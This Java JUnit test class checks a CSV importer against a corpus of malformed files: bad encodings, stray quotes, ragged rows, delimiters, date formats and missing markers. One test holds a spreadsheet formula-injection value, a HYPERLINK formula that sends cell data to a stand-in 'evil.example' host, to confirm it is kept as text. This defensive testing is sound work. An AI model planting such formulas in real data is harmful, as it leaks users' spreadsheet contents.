package com.mstudio.engine.data.csv;

import com.mstudio.engine.api.BadRowPolicy;
import com.mstudio.engine.api.ColumnSchema;
import com.mstudio.engine.api.ColumnType;
import com.mstudio.engine.api.CsvDialect;
import com.mstudio.engine.api.DataTable;
import com.mstudio.engine.api.ImportOptions;
import com.mstudio.engine.api.ImportReport;
import com.mstudio.engine.api.ImportResult;
import com.mstudio.engine.api.Rejection;
import com.mstudio.engine.api.StudioException;
import org.junit.jupiter.api.Test;

import java.util.List;

import static com.mstudio.engine.data.csv.CsvTestFiles.corpus;
import static com.mstudio.engine.data.csv.CsvTestFiles.importFails;
import static com.mstudio.engine.data.csv.CsvTestFiles.importFile;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The bad-input corpus (src/test/resources/bad-csv) is the importer's contract: one test per file. */
class CsvBadInputCorpusTest {

    private static List<ColumnType> types(ImportResult r) {
        return r.schema().stream().map(ColumnSchema::type).toList();
    }

    private static List<String> names(ImportResult r) {
        return r.schema().stream().map(ColumnSchema::name).toList();
    }

    private static List<String> row(DataTable t, int r) {
        return java.util.stream.IntStream.range(0, t.columnCount()).mapToObj(c -> t.text(r, c)).toList();
    }

    private static void countsAddUp(ImportReport rep) {
        assertEquals(rep.rowsRead(), rep.rowsImported() + rep.rowsRejected(), "rowsRead == imported + rejected");
    }

    @Test
    void emptyFile() {
        StudioException e = importFails(corpus("empty.csv"));
        assertEquals("The file is empty", e.reason());
        assertEquals("empty.csv: The file is empty", e.getMessage());
    }

    @Test
    void fileOfBlankLinesIsEmpty() {
        assertEquals("The file is empty", importFails(corpus("whitespace_only.csv")).reason());
    }

    @Test
    void headerOnly() {
        assertEquals("The file has a header row but no data rows", importFails(corpus("header_only.csv")).reason());
    }

    @Test
    void binaryFileRenamedToCsv() {
        StudioException e = importFails(corpus("binary_png_renamed.csv"));
        // the PNG signature is 8 bytes; the first NUL is the IHDR chunk's length
        assertEquals("This does not look like a text file (found binary data at byte 8)", e.reason());
    }

    @Test
    void unbalancedQuoteNamesLineAndColumn() {
        StudioException e = importFails(corpus("unbalanced_quote.csv"));
        assertEquals(12, e.line());
        assertEquals("3", e.column());
        assertEquals("unbalanced_quote.csv, line 12, column 3: A quote opened here is never closed", e.getMessage());
    }

    @Test
    void raggedRowsAreRejectedWithTheirLines() {
        ImportResult r = importFile(corpus("ragged_rows.csv"));
        ImportReport rep = r.report();
        assertEquals(6, rep.rowsRead());
        assertEquals(4, rep.rowsImported());
        assertEquals(2, rep.rowsRejected());
        assertEquals(List.of(new Rejection(4, null, null, "has 2 fields, expected 4"),
                new Rejection(6, null, null, "has 6 fields, expected 4")), rep.rejections());
        assertTrue(rep.notices().contains("2 rows do not have 4 fields (the first at line 4)"), rep.notices().toString());
        assertEquals(List.of("1", "2", "4", "6"), java.util.stream.IntStream.range(0, 4).mapToObj(i -> r.table().text(i, 0)).toList());
        countsAddUp(rep);
    }

    @Test
    void raggedShortRowIsPaddedWhenKeepingRows() {
        ImportResult r = importFile(corpus("ragged_rows.csv"), ImportOptions.detectAll().withBadRowPolicy(BadRowPolicy.KEEP_AS_MISSING));
        ImportReport rep = r.report();
        assertEquals(6, rep.rowsRead());
        assertEquals(5, rep.rowsImported()); // the row with too many fields still goes
        assertEquals(1, rep.rowsRejected());
        assertEquals(2, rep.cellsSetMissing());
        assertEquals(new Rejection(4, null, null, "has 2 fields, expected 4; the last 2 were left empty"), rep.rejections().get(0));
        assertEquals(List.of("3", "Cid", "", ""), row(r.table(), 2));
        assertTrue(r.table().isMissing(2, 3));
        countsAddUp(rep);
    }

    @Test
    void duplicateHeadersAreRenamed() {
        ImportResult r = importFile(corpus("duplicate_headers.csv"));
        assertEquals(List.of("id", "email", "email_2", "Email_3", "score"), names(r));
        assertEquals("email", r.schema().get(2).headerText());
        assertTrue(r.report().notices().contains("There are two columns called 'email'; column 3 is called email_2"));
        assertTrue(r.report().notices().contains("There are two columns called 'Email'; column 4 is called Email_3"));
    }

    @Test
    void blankHeadersAreNamedByPosition() {
        ImportResult r = importFile(corpus("blank_header.csv"));
        assertEquals(List.of("id", "column_2", "amount", "column_4"), names(r));
        assertEquals(List.of("Column 2 has no name in the header; it is called column_2",
                "Column 4 has no name in the header; it is called column_4"), r.report().notices());
    }

    @Test
    void semicolonWithDecimalComma() {
        ImportResult r = importFile(corpus("semicolon_decimal_comma.csv"));
        CsvDialect d = r.report().dialect();
        assertEquals(';', d.delimiter());
        assertTrue(d.decimalComma());
        assertEquals(List.of(ColumnType.INTEGER, ColumnType.DECIMAL, ColumnType.DECIMAL, ColumnType.CATEGORICAL), types(r));
        assertEquals(20, r.table().rowCount());
        // first data line: 1;{randint},{2 digits};0,{digit};Köln
        assertEquals(0, r.report().rowsRejected());
        double rabatt = r.table().number(0, 2);
        assertTrue(rabatt >= 0 && rabatt < 1 && Math.abs(rabatt * 10 - Math.rint(rabatt * 10)) < 1e-9, "0,x read as 0.x: " + rabatt);
        assertEquals("Köln", r.table().text(0, 3));
    }

    @Test
    void utf16LittleEndianWithBom() {
        ImportResult r = importFile(corpus("utf16_bom.csv"));
        assertEquals(new CsvDialect("UTF-16LE", true, ',', '"', true, false), r.report().dialect());
        assertEquals(List.of("name", "city", "visits"), names(r));
        assertEquals(List.of("Zoë", "Malmö", "3"), row(r.table(), 0));
        assertEquals(List.of("José", "São Paulo", "5"), row(r.table(), 1));
    }

    @Test
    void utf16BigEndianWithBom() {
        ImportResult r = importFile(corpus("utf16be_bom.csv"));
        assertEquals("UTF-16BE", r.report().dialect().encoding());
        assertEquals(List.of("François", "Besançon", "7"), row(r.table(), 2));
    }

    @Test
    void utf8WithBomDoesNotLeakIntoFirstName() {
        ImportResult r = importFile(corpus("utf8_bom.csv"));
        assertEquals(new CsvDialect("UTF-8", true, ',', '"', true, false), r.report().dialect());
        assertEquals("name", r.schema().get(0).name());
        assertEquals(ColumnType.INTEGER, r.schema().get(2).type());
    }

    @Test
    void gbkChinese() {
        ImportResult r = importFile(corpus("gbk_chinese.csv"));
        assertEquals("GB18030", r.report().dialect().encoding());
        assertEquals(List.of("客户", "城市", "金额"), names(r));
        assertEquals(List.of("张伟", "北京", "120"), row(r.table(), 0));
        assertEquals(ColumnType.INTEGER, r.schema().get(2).type());
        assertTrue(r.report().notices().contains("Read as GB18030 text"));
    }

    @Test
    void windows1252Accents() {
        ImportResult r = importFile(corpus("windows1252_accents.csv"));
        assertEquals("windows-1252", r.report().dialect().encoding());
        assertEquals(';', r.report().dialect().delimiter());
        assertEquals(List.of("Renée", "Genève", "café crème"), row(r.table(), 0));
        assertEquals("façade €5", r.table().text(3, 2));
    }

    @Test
    void formulaLikeTextStaysTextAndNumbersStayNumbers() {
        ImportResult r = importFile(corpus("formula_injection.csv"));
        assertEquals(ColumnType.DECIMAL, r.schema().get(2).type(), "-5, -3.5, +2 are numbers");
        assertEquals(-5.0, r.table().number(0, 2));
        assertEquals(2.0, r.table().number(3, 2));
        assertEquals("=HYPERLINK(\"http://evil.example/?q=\"&A1)", r.table().text(0, 1));
        assertEquals("@cmd", r.table().text(2, 1));
        assertTrue(r.report().notices().contains("4 values in 'comment' start with =, +, - or @ like a spreadsheet formula; "
                + "they are kept as plain text and escaped when exported"), r.report().notices().toString());
    }

    @Test
    void strayTextInIntegerColumnIsRejectedNotTurnedIntoText() {
        ImportResult r = importFile(corpus("stray_text_in_int_column.csv"));
        assertEquals(ColumnType.INTEGER, r.schema().get(2).type());
        ImportReport rep = r.report();
        assertEquals(40, rep.rowsRead());
        assertEquals(38, rep.rowsImported());
        assertEquals(List.of(new Rejection(18, "age", "forty", "'forty' is not a whole number"),
                new Rejection(34, "age", "3x", "'3x' is not a whole number")), rep.rejections());
        countsAddUp(rep);
    }

    @Test
    void strayTextKeptAsMissing() {
        ImportResult r = importFile(corpus("stray_text_in_int_column.csv"),
                ImportOptions.detectAll().withBadRowPolicy(BadRowPolicy.KEEP_AS_MISSING));
        ImportReport rep = r.report();
        assertEquals(40, rep.rowsImported());
        assertEquals(0, rep.rowsRejected());
        assertEquals(2, rep.cellsSetMissing());
        assertEquals(2, rep.rejections().size());
        assertTrue(r.table().isMissing(16, 2));
        assertEquals("Name17", r.table().text(16, 1));
        assertEquals(2, r.table().column(2).missing());
    }

    @Test
    void overrideToTextKeepsEveryRow() {
        ImportResult r = importFile(corpus("stray_text_in_int_column.csv"), ImportOptions.detectAll().withColumnType("age", ColumnType.TEXT));
        assertEquals(ColumnType.TEXT, r.schema().get(2).type());
        assertEquals(ColumnType.INTEGER, r.schema().get(2).detectedType());
        assertTrue(r.schema().get(2).isOverridden());
        assertEquals(40, r.report().rowsImported());
        assertEquals("forty", r.table().text(16, 2));
    }

    @Test
    void mixedIsoAndDayFirstDatesReadAsOneDateColumn() {
        ImportResult r = importFile(corpus("mixed_date_formats.csv"));
        ColumnSchema date = r.schema().get(1);
        assertEquals(ColumnType.DATE, date.type());
        assertEquals("dd/MM/yyyy", date.format());
        assertEquals(0, r.report().rowsRejected());
        assertEquals("2024-02-11", r.table().text(0, 1)); // e1: ISO
        assertEquals("2024-03-12", r.table().text(1, 1)); // e2: 12/03/2024
    }

    @Test
    void monthFirstDatesAreRecognisedByDaysAboveTwelve() {
        ImportResult r = importFile(corpus("us_dates.csv"));
        assertEquals(ColumnType.DATE, r.schema().get(1).type());
        assertEquals("MM/dd/yyyy", r.schema().get(1).format());
        assertEquals("2023-02-14", r.table().text(0, 1)); // 2/14/2023
    }

    @Test
    void isoDateTimesWithTOrSpaceWithOrWithoutSeconds() {
        ImportResult r = importFile(corpus("iso_datetimes.csv"));
        assertEquals(ColumnType.DATETIME, r.schema().get(1).type());
        assertEquals(List.of("2024-03-01T08:15", "2024-03-01T09:30", "2024-03-02T23:59:59", "2024-03-03T00:00"),
                java.util.stream.IntStream.range(0, 4).mapToObj(i -> r.table().text(i, 1)).toList());
    }

    @Test
    void tabDelimited() {
        ImportResult r = importFile(corpus("tab_delimited.tsv"));
        assertEquals('\t', r.report().dialect().delimiter());
        assertEquals(List.of("id", "product", "price", "in_stock"), names(r));
        assertEquals(List.of(ColumnType.IDENTIFIER, ColumnType.CATEGORICAL, ColumnType.DECIMAL, ColumnType.BOOLEAN), types(r));
        assertEquals("Tea, green", r.table().text(0, 1));
    }

    @Test
    void pipeDelimited() {
        ImportResult r = importFile(corpus("pipe_delimited.txt"));
        assertEquals('|', r.report().dialect().delimiter());
        assertEquals(List.of("sku", "title", "qty"), names(r));
        assertEquals("Green; small", r.table().text(2, 1));
        assertEquals(ColumnType.INTEGER, r.schema().get(2).type());
    }

    @Test
    void noHeaderWhenTheFirstRowHasNumbers() {
        ImportResult r = importFile(corpus("no_header.csv"));
        assertFalse(r.report().dialect().hasHeader());
        assertEquals(List.of("column_1", "column_2", "column_3", "column_4"), names(r));
        assertEquals(4, r.report().rowsRead());
        assertEquals(List.of("1", "Alice", "3.5", "2024-01-05"), row(r.table(), 0));
        assertEquals(ColumnType.DECIMAL, r.schema().get(2).type());
        assertEquals(ColumnType.DATE, r.schema().get(3).type());
    }

    @Test
    void headerCanBeForcedOff() {
        ImportResult r = importFile(corpus("pipe_delimited.txt"), ImportOptions.detectAll().withHeader(false));
        assertEquals(4, r.report().rowsRead());
        assertEquals("sku", r.table().text(0, 0));
    }

    @Test
    void quotedNewlinesDoubledQuotesAndCrlf() {
        ImportResult r = importFile(corpus("quoted_newlines.csv"));
        DataTable t = r.table();
        assertEquals(4, t.rowCount());
        assertEquals("first line\r\nsecond line", t.text(0, 1));
        assertEquals("she said \"hi\"", t.text(1, 1));
        assertEquals("a,b,c", t.text(2, 1));
    }

    @Test
    void lineNumbersCountLinesInsideQuotes() {
        ImportResult r = importFile(corpus("quoted_newlines.csv"), ImportOptions.detectAll().withColumnType("score", ColumnType.INTEGER));
        // records start at lines 2, 4, 5, 6: the first spans two lines
        assertEquals(List.of(new Rejection(6, "score", "x", "'x' is not a whole number")), r.report().rejections());
    }

    @Test
    void carriageReturnOnlyLineEndings() {
        ImportResult r = importFile(corpus("cr_only_line_endings.csv"));
        assertEquals(3, r.table().rowCount());
        assertEquals("Cid", r.table().text(2, 1));
    }

    @Test
    void singleQuoteAsQuoteCharacter() {
        ImportResult r = importFile(corpus("single_quote_quoting.csv"));
        assertEquals('\'', r.report().dialect().quote());
        assertEquals(List.of("1", "Smith, John", "New York"), row(r.table(), 0));
    }

    @Test
    void missingMarkers() {
        ImportResult r = importFile(corpus("missing_markers.csv"));
        DataTable t = r.table();
        assertEquals(ColumnType.INTEGER, r.schema().get(1).type());
        assertEquals(6, t.column(1).missing(), "NA, N/A, null, -, ? and empty");
        assertEquals(ColumnType.BOOLEAN, r.schema().get(2).type());
        assertEquals(1, t.column(2).missing());
        assertEquals(4, t.column(3).missing(), "NULL, -, n/a and empty");
        assertEquals(0, r.report().rowsRejected());
    }

    @Test
    void leadingZerosKeepCodesAsText() {
        ImportResult r = importFile(corpus("leading_zero_codes.csv"));
        assertTrue(r.schema().get(0).type().isString());
        assertEquals("01234", r.table().text(0, 0));
        assertEquals(ColumnType.INTEGER, r.schema().get(1).type());
    }

    @Test
    void missingFile() {
        StudioException e = importFails(corpus("empty.csv").resolveSibling("no_such_file.csv"));
        assertEquals("no_such_file.csv: The file does not exist", e.getMessage());
    }

    @Test
    void strayQuoteThatClosesInsideALaterValueRejectsTheMergedRow() {
        ImportResult r = importFile(corpus("stray_quote_mid_file.csv"), ImportOptions.detectAll().withBadRowPolicy(BadRowPolicy.KEEP_AS_MISSING));
        ImportReport rep = r.report();
        assertEquals(List.of(new Rejection(3, null, null, "the quotes do not pair up: a quote opened on line 3 closes inside "
                + "a value on line 5, so these lines were read as one row")), rep.rejections());
        assertEquals(3, rep.rowsRead());
        assertEquals(1, rep.rowsRejected(), "rejected even when keeping bad rows: its values are a mix of three rows");
        assertEquals(List.of("1", "5"), List.of(r.table().text(0, 0), r.table().text(1, 0)));
        assertTrue(rep.notices().contains("1 row has line breaks inside quoted values (the first at line 3)"));
    }

    @Test
    void strayQuoteThatMakesARaggedRowSaysWhere() {
        ImportReport rep = importFile(corpus("stray_quote_makes_ragged_row.csv")).report();
        assertEquals(List.of(new Rejection(3, null, null,
                "has 5 fields, expected 4 (it runs over lines 3 to 5; perhaps a quote there is not closed)")), rep.rejections());
        countsAddUp(rep);
    }

    @Test
    void quotingCanBeSwitchedOff() {
        ImportResult r = importFile(corpus("pipe_delimited.txt"), ImportOptions.detectAll().withQuote('\0'));
        assertEquals('\0', r.report().dialect().quote());
        ImportResult q = importFile(corpus("single_quote_quoting.csv"), ImportOptions.detectAll().withQuote('\0').withDelimiter(';'));
        assertEquals("1,'Smith, John','New York'", q.table().text(0, 0), "no quoting, and a delimiter that never occurs: one column");
    }

    @Test
    void overrideToDateUsesTheOrderTheValuesFit() {
        // event ids e1..e20 are no dates: the override makes every one a rejection, with the order ISO by default
        ImportResult r = importFile(corpus("mixed_date_formats.csv"), ImportOptions.detectAll().withColumnType("event", ColumnType.DATE));
        assertEquals("yyyy-MM-dd", r.schema().get(0).format());
        assertEquals(20, r.report().rowsRejected());
        assertEquals(new Rejection(2, "event", "e1", "'e1' is not a date like yyyy-MM-dd"), r.report().rejections().get(0));
        // half dates (dd.MM.yyyy), half words: detected as text; an override finds the order the dates are in
        ImportResult h = importFile(corpus("half_dates_half_words.csv"));
        assertTrue(h.schema().get(1).type().isString());
        ImportResult d = importFile(corpus("half_dates_half_words.csv"), ImportOptions.detectAll().withColumnType("when", ColumnType.DATE));
        assertEquals("dd.MM.yyyy", d.schema().get(1).format());
        assertEquals(3, d.report().rowsImported());
        assertEquals("2024-12-24", d.table().text(0, 1));
        assertEquals(new Rejection(3, "when", "soon", "'soon' is not a date like dd.MM.yyyy"), d.report().rejections().get(0));
    }

    @Test
    void excelSepLineNamesTheDelimiterAndIsSkipped() {
        ImportResult r = importFile(corpus("excel_sep_line.csv"));
        assertEquals(';', r.report().dialect().delimiter());
        assertEquals(List.of("name", "amount"), names(r));
        assertEquals(2.25, r.table().number(1, 1));
        assertTrue(r.report().notices().contains("The first line 'sep=;' names the delimiter; it was skipped"));
        // line numbers still count the sep line
        ImportResult t = importFile(corpus("excel_sep_line.csv"), ImportOptions.detectAll().withColumnType("amount", ColumnType.INTEGER));
        assertEquals(new Rejection(3, "amount", "1,5", "'1,5' is not a whole number"), t.report().rejections().get(0));
    }

    @Test
    void titleLineAboveTheHeaderIsAClearError() {
        StudioException e = importFails(corpus("title_line_above_header.csv"));
        assertEquals(1, e.line());
        assertEquals("This line has 2 fields, but 11 of the 11 rows below have a different number: is there a title above "
                + "the header, or another delimiter than the comma?", e.reason());
    }
}
